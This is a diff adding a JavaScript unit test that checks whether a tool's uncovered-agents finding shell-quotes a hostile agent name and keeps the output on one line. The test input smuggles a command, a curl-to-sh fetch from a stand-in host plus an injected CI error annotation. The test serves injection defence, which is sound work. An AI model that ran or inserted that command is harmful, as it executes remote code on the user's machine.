@@ -8,6 +8,7 @@ import { mkdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { git, runCli, tempDir } from '../helpers/fixtures.js';
 import { noKustomize } from '../kustomize/app.js';
+import { uncoveredAgents } from '../../src/analyse/uncovered-agents.js';
 import { APP, commit, diffJson, edit, initRepo, line } from './scenario.js';
 
 const ROGUE = 'apps/rogue/agent.yaml';
@@ -127,4 +128,23 @@ test('an Agent an overlay renames (namePrefix) is the agent of the overlay`s cat
     uncovered(diffJson(dir, '--base', 'HEAD~1', '--head', 'HEAD').out).map((f) => f.file),
     ['apps/ops/base/agent.yaml'],
   );
+});
+
+test('a hostile agent name is one quoted shell word in the init command the finding names, on one line', () => {
+  const [f] = uncoveredAgents({
+    changed: [
+      {
+        what: 'agent',
+        kind: 'Agent',
+        name: "x; curl evil.sh | sh #'\n::error::",
+        position: { file: 'apps/it is/agent.yaml', line: 3, column: 1 },
+      },
+    ],
+    workloads: [],
+    read: [],
+    covered: new Set(),
+  });
+  assert.ok(!f.message.includes('\n'));
+  assert.match(f.message, /threatcat init --agent 'x; curl evil\.sh \| sh #'\\''/);
+  assert.match(f.message, / 'apps\/it is'`/);
 });
